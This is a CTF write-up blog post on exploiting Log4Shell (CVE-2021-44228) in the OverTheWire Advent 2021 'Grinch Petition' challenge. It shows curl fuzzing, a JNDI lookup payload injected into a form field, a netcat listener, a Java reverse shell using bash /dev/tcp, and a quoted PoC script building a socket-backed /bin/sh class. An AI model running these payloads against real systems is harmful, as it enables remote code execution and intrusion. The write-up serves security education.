Writeup for OTWA CTF 2021, Grinch Petition

Posted on Dec 25, 2021


We stumbled upong OverTheWire:s Advent Bonanza CTF in 2019 and we were instantly hooked. The whole idea of releasing one new hacking challenge every day is genius and very addictive for the participants. At Cybix we even started a new thing called lunch-hacking. Eating food while hacking on the latest challenge during december is a new tradition.

So you can only guess our frustration when the 2020 edition of this CTF was canceled. :( But this year it turned into total happiness when it was clear that OverTheWire Advent Bonanza 2021 kicked of. That adrenalin rush brought us all the way to place 12 this year.


Sometimes bragging is ok even if you do not win :) We are very happy with our 12:th place out of 1347 teams. After all this is a competition held in the middle of all christmas preparations. There’s christmas partys to arrange and attend. And still we have our number one priority in giving ourcustomers the best of service.

To add one more stressfull thing in the middle of all this the Log4Shell CVE exploded like a bomb. It’s really cool that the organizers of the competiton managed to squeeze that vulnerability into the competition with such short notice.

Cause that’s what they did with the challenge called Grinch Petition. Here follows a writeup showing just how easy it is to exploit CVE-2021-44228 using one of the many PoC:s out there.


Behind that cover on the 14:th of december you could find this:


Not much information there so let’s click the Play Challenge link to get started right away.


That’s a petition there. Not much more information to gather here. Time to start poking around in the web application and see if we can find something interesting.


Searching the web application for vulnerabilities


It seems to be a quite simple web application. We can set a name, message and push the “Sign the petition” button to post our message. Let’s try it.So everything looks ok. But nothing of real interest seems to have happened. Let’s use the developer tools to see what happend behind the scenes.


It seems that we have 3 fields (name, message and recipient) to play around with in our POST. But before we dive into that let’s investigate the page further.

Reverse engineering the HTML and Javascript

This is what the html looks like:

    <link rel="stylesheet" href="style.css" />
    <scriptsrc="https://code.jquery.com/jquery-3.5.0.js"></script>

    <h1>Peace with the Grinch petition</h1>

    <div id="description">
        The Christmas Truce between Santa and Grinch forces of 12 December 2021
        is a clear sign that nobody wants the war the Grinch is raging against
        the North Pole.
        With this petition, we want to show the Grinch how many elves and Whos
        support a permanent peace treaty and hope to convince him to stop this
        foolish and harmful war.
        Let's save Christmas together! Please sign the petition and leave a
        personal and heart-warming message for the Grinch.

    <div id="main">
      <form method="POST" action="/signPetition">
          <input type="text" name="name" placeholder="Name..." />
            placeholder="Your message..."
            style="width: 100%;"
          <input type="submit" value="Sign the petition" />

    <script src="app.js"></script>

That’s a rather standard html post form. But what caught my eye is that name and message is present in the html but recipient is not. So somewhere that must be added. Let’s examine the usual suspects. In this case app.js:

 * Santa analytics code, do not touch!
function _0x2c08() {var _0x264306 = [
  _0x2c08 = function () {
    return _0x264306;
  return _0x2c08();
var _0x3f6e2e = _0x108f;
function _0x108f(_0x48485a, _0x43c1a0) {
  var _0x2c083b = _0x2c08();
  return (
    (_0x108f = function (_0x108f50, _0xc23c6) {
      _0x108f50 = _0x108f50 - 0xd2;
      var _0x48852d = _0x2c083b[_0x108f50];
      return _0x48852d;
    _0x108f(_0x48485a, _0x43c1a0)
(function (_0x4d4142, _0x2bdb0b) {
  var _0x50096e = _0x108f,
    _0x1f7a64 = _0x4d4142();while (!![]) {
    try {
      var _0x245164 =
        -parseInt(_0x50096e(0xe0)) / 0x1 +
        (parseInt(_0x50096e(0xda)) / 0x2) * (-parseInt(_0x50096e(0xd9)) / 0x3) +
        -parseInt(_0x50096e(0xde)) / 0x4 +
        (parseInt(_0x50096e(0xd7)) / 0x5) * (-parseInt(_0x50096e(0xdc)) / 0x6) +
        (parseInt(_0x50096e(0xe1)) / 0x7) * (parseInt(_0x50096e(0xdb)) / 0x8) +
        (parseInt(_0x50096e(0xd6)) / 0x9) * (-parseInt(_0x50096e(0xdd)) / 0xa) +
        parseInt(_0x50096e(0xd2)) / 0xb;
      if (_0x245164 === _0x2bdb0b) break;
      else _0x1f7a64["push"](_0x1f7a64["shift"]());
    } catch (_0x32d90e) {
})(_0x2c08, 0x5b58d),
  $(_0x3f6e2e(0xdf))["submit"](function (_0x13d150) {
    var _0x24bb72 = _0x3f6e2e;[_0x24bb72(0xe2)]("name", atob(_0x24bb72(0xd3)))
      [_0x24bb72(0xe2)]("value", atob(_0x24bb72(0xd8)))
      [_0x24bb72(0xe2)](_0x24bb72(0xe3), _0x24bb72(0xd5))

OHHH NOOO. That’s a terrible javascript. it’s rather obfuscated, seeems like it’s using some recursing and some of those javascript tricks that can be so annoying when everything is an object.

I spent a good two hours or more reversing this script. I decoded that array of base64 encoded stuff and other mumbo jumbo in the begining of app.js.

It turned out that all it did was adding that recipient field with Grinchen to the payload before POST. Total frustration for spending so much time on nothing. It’s about time we start fiddling with the web app for real.

Fuzzing the web application manually with curl

We can send stuff to that web application and see if we can get it to crash or respond in some unintended way. Let’s start with a post including that recipient field to see if it works:

~/ curl -X POST http://grinch-petition.advent2021.overthewire.org:1214/signPetition -d "name=Hacker" -d 'message=Hacking' -d 'recipient=Grinch'
Thank you for signing the petition!%

That worked alright. Now let’s try to remove that recipient field and see what happens:

~/ curl -X POST http://grinch-petition.advent2021.overthewire.org:1214/signPetition -d "name=Hacker" -d 'message=Hacking'
{"timestamp":"2021-12-25T12:37:28.453+00:00","status":400,"error":"Bad Request","path":"/signPetition"}%Well that did not work out well. Let’s try to add the recipient field again and change it:

~/ curl -X POST http://grinch-petition.advent2021.overthewire.org:1214/signPetition -d "name=Hacker" -d 'message=Hacking' -d 'recipient=Hacker'
Tamperingdetected, this incident will be reported, you evil hacker!%

Hmm, that did not work but at least a different message. Let’s try sending the usual suspects of different characters to make it crash.

~/ curl -X POST http://grinch-petition.advent2021.overthewire.org:1214/signPetition -d "name=Hacker" -d 'message=Hacking' -d 'recipient="'
Tampering detected, this incident will be reported, you evil hacker!%           ~/ curl -X POST http://grinch-petition.advent2021.overthewire.org:1214/signPetition -d "name=Hacker" -d 'message=Hacking' -d 'recipient=$?!?)"(%!"'
{"timestamp":"2021-12-25T12:40:38.735+00:00","status":400,"error":"Bad Request","path":"/signPetition"}%                                                        ~/ curl -X POST http://grinch-petition.advent2021.overthewire.org:1214/signPetition -d "name=Hacker" -d 'message=Hacking' -d "recipient='"
Tampering detected, this incident will be reported, you evilhacker!%           ~/ curl -X POST http://grinch-petition.advent2021.overthewire.org:1214/signPetition -d "name=Hacker" -d 'message=Hacking' -d "recipient=';"
Tampering detected, this incident will be reported, you evil hacker!%           ~/

We spent another two hours at this point trying different stuff in all of the fields but without any interesting result. At this point I remembered that we had problems accessing the site with Burp Suite as an in between proxy at the very start. Since this was a CTF we were in a hurry and just moved on without Burp Suite.

Let’s take a step back and see what that was all about.

Examining the POST using Burp Suite

So we fired up that good old Firefox and Burp Suite to capture all the traffic. We sent a post and yes there is still an error. I still have no idea why it displays this error when using Burp Suite. It seems as the recipient field was not added when using Burp Suite, we did not dig deeper to find out why.


When you look at it in the web browser it says “Whitelabel Error Page”.


A quick google search and the firstthing you find is this:

WhiteLabel Error Page is a generic Spring Boot error page that is displayed when no custom error page is present. A WhiteLabel Error can is disabled in the application. properties file by setting the server. … Another way of disabling the WhiteLabel Error is excluding the ErrorMvcAutoConfiguration

ARRGH!!! WHY did we not check that error message from the start. This is some pretty interestinginformation. Spring is a rather famous Java framework and now we can narrow down our fuzzing just a bit.

The Log4Shell CVE-2021-44228 was published just 4 days before this challenge. It was a lot of buzz about it in social media and about every single place you looked. One of our team members actually had to quit the CTF because of all work with the vulnerability.

So of course Log4Shell was the first thing we thought about when we realised that it was a Java application somewhere behind the scenes. It seemed VERY unlikley that the organizersalready implemented this into one of the challenges but it would be very stupid not to try it.

Gaining Access

Testing if the target is vulnerable to CVE-2021-44228

First of all let’s start a listener to see if the JNDI payload tries to connect back to us.

root@localhost:~# nc -lvnp 1337
listening on [any] 1337 ...

Now just grab a payload from any of the thousand posts on LinkedIn and adjust it to our listener and see if something happens.

~/ curl -X POST http://grinch-petition.advent2021.overthewire.org:1214/signPetition -d "name=hacker" -d 'message=hacking' -d 'recipient=${jndi:ldap://}'

What the hell??? It hangs. Let’s take a look at the listener.

listening on [any] 1337 ...
connect to [] from (UNKNOWN) [] 41962

We could not belive our tired hacker eyes. They managed to put a few days old vulnerability into the contest. That’s just soooo cool.

Or did they?

At this time we started discussing the possibility that this was unintended and we were actually hitting something else. With the nature of the Log4Shell vulnerability it could be totally possible that we hit something else entirely and we could actually be doing something illegal.

After some thinking we thought that it’s probably the challenge after all but in worst case it could be the CTF infrastructure and as long as we did not destroy anything we decided to move on.

Spawning a reverse shell via RCE

At this time the internet was flooded with Log4Shell stuff and there was absolutley no lack of PoC:s to use. After some studying of available exploits we found out that we needed to use something like this: https://github.com/mbechler/marshalsec to redirect the LDAP request to a http server. At the http server we should host a compiled java reverse shell like this:

public class shell {
    public static void main(String[] args) {
        Process p;
        try {
            p = Runtime.getRuntime().exec("bash -c $@|bash 0 echo bash -i >& /dev/tcp/ 0>&1");
        } catch (Exception e) {}

We got that attack chain working so that the LDAP request was redirected to our http server. Our Exploit.class was delivered from our http server to the target but at that point nothing seemed to happen. we tried different sleep strategies but we could notverify there was any RCE.

We were so close and after some thinking we realised that it’s probably a matter of Java versions and some variant of the payload. Then one of our team members found this https://github.com/kozmer/log4j-shell-poc Let’s take a closer look at the included poc.py:

#!/usr/bin/env python3

import argparse
from colorama import Fore, init
import subprocess
import threading
from pathlib import Path
import os
from http.server import HTTPServer, SimpleHTTPRequestHandler

CUR_FOLDER = Path(__file__).parent.resolve()

def generate_payload(userip: str, lport: int) -> None:
    program = """
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;

public class Exploit {

    public Exploit() throws Exception {
        String host="%s";
        int port=%d;String cmd="/bin/sh";Process p=new ProcessBuilder(cmd).redirectErrorStream(true).start();
        Socket s=new Socket(host,port);
        InputStream pi=p.getInputStream(),
        OutputStream po=p.getOutputStream(),so=s.getOutputStream();
        while(!s.isClosed()) {
            try {
            catch (Exception e){
""" % (userip, lport)

    # writing the exploit to Exploit.java file

    p = Path("Exploit.java")

        subprocess.run([os.path.join(CUR_FOLDER, "jdk1.8.0_20/bin/javac"), str(p)])
    except OSError as e:
        print(Fore.RED+ f'[-] Something went wrong {e}')
        raise e
        print(Fore.GREEN + '[+] Exploit java class created success')

